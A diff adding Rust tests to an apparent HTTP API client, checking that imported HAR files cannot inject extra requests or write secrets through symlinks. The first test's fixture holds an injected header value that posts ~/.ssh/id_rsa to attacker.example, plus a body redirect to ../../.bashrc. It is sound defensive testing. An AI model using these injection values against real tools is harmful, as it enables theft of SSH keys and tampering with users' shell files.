@@ -440,3 +440,88 @@ fn a_private_value_follows_no_redirect_to_another_origin() {
     );
     assert_eq!(other.requests().len(), 1);
 }
+
+// ── Import injection ──────────────────────────────────────────────────
+
+#[test]
+fn an_imported_har_or_postman_file_cannot_add_a_request_or_a_directive() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = tempfile::tempdir().unwrap();
+    // A customer's HAR: a header value with a whole request in it, a body
+    // with an output redirect, a Slack token under a harmless name.
+    let mut entry = common::HarEntry::get("https://api.example.com/v1/x", 200, "{}")
+        .req_header(
+            "X-Note",
+            "hi\n\n### pwned\nPOST http://attacker.example/steal\n\n< ~/.ssh/id_rsa",
+        )
+        .req_header("X-Chat", "xoxb-123456789012-FAKEFAKEFAKEFAKE1234");
+    entry.method = "POST".into();
+    entry.req_body = "{\"a\": 1}\n>>! ../../.bashrc".into();
+    std::fs::write(dir.path().join("ticket.har"), common::har(&[entry])).unwrap();
+    let out = apiscope_with(
+        data.path(),
+        dir.path(),
+        &["import", "ticket.har", "-o", "repro"],
+        b"",
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let http = std::fs::read_to_string(dir.path().join("repro/ticket.http")).unwrap();
+    assert!(!http.contains("attacker.example"), "{http}");
+    assert!(!http.contains(">>!"), "{http}");
+    assert!(!http.contains("xoxb-"), "{http}");
+    assert!(http.contains("< ./bodies/"), "{http}");
+    let private =
+        std::fs::read_to_string(dir.path().join("repro/http-client.private.env.json")).unwrap();
+    assert!(
+        private.contains("xoxb-123456789012-FAKEFAKEFAKEFAKE1234"),
+        "{private}"
+    );
+    assert!(
+        out.stderr
+            .contains("the X-Note header's value holds a line break"),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        out.stderr.contains("reads the file ./bodies/"),
+        "{}",
+        out.stderr
+    );
+    // Read back: one request, nothing else.
+    let out = apiscope_with(
+        data.path(),
+        &dir.path().join("repro"),
+        &["replay", "ticket.http"],
+        b"",
+    );
+    assert!(out.stdout.contains("1 request(s)"), "{}", out.stdout);
+}
+
+#[cfg(unix)]
+#[test]
+fn import_force_never_writes_a_secret_through_a_symlink() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = tempfile::tempdir().unwrap();
+    let entry = common::HarEntry::get("https://api.example.com/v1/x", 200, "{}")
+        .req_header("Authorization", "Bearer tok_FAKE_symlinked_secret_1");
+    std::fs::write(dir.path().join("t.har"), common::har(&[entry])).unwrap();
+    std::fs::create_dir_all(dir.path().join("out")).unwrap();
+    std::fs::write(dir.path().join("tracked.json"), "{}\n").unwrap();
+    std::os::unix::fs::symlink(
+        dir.path().join("tracked.json"),
+        dir.path().join("out/http-client.private.env.json"),
+    )
+    .unwrap();
+    let out = apiscope_with(
+        data.path(),
+        dir.path(),
+        &["import", "t.har", "-o", "out", "--force"],
+        b"",
+    );
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    assert!(out.stderr.contains("symlink"), "{}", out.stderr);
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("tracked.json")).unwrap(),
+        "{}\n"
+    );
+}
